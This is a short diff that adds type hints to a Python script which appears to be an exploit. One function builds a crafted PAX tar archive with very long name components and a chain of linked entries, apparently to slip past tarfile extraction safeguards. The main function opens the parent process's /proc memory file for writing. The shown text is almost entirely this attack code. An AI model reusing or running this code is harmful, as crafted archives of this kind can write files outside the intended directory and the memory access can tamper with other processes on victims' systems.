@@ -16,12 +16,12 @@ import sys
 import tarfile
 
 
-def crafted(target):
+def crafted(target: str) -> bytes:
     comp, steps = "d" * 247, "abcdefghijklmnop"
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
 
-        def add(name, kind, link="", data=b""):
+        def add(name: str, kind: bytes, link: str = "", data: bytes = b"") -> None:
             info = tarfile.TarInfo(name)
             info.type, info.linkname, info.mode, info.size = kind, link, 0o755, len(data)
             tar.addfile(info, io.BytesIO(data) if data else None)
@@ -38,7 +38,7 @@ def crafted(target):
     return buffer.getvalue()
 
 
-def main(action, target):
+def main(action: str, target: str) -> None:
     parent = os.getppid()
     try:
         fd = os.open(f"/proc/{parent}/mem", os.O_RDWR)
